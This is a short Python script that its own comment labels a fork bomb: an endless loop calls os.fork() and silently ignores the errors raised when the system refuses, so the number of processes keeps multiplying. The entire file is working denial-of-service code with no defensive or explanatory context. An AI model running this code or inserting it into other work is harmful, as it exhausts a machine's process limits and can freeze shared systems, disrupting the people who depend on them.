# A fork bomb: every process forks forever, ignoring refusals.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
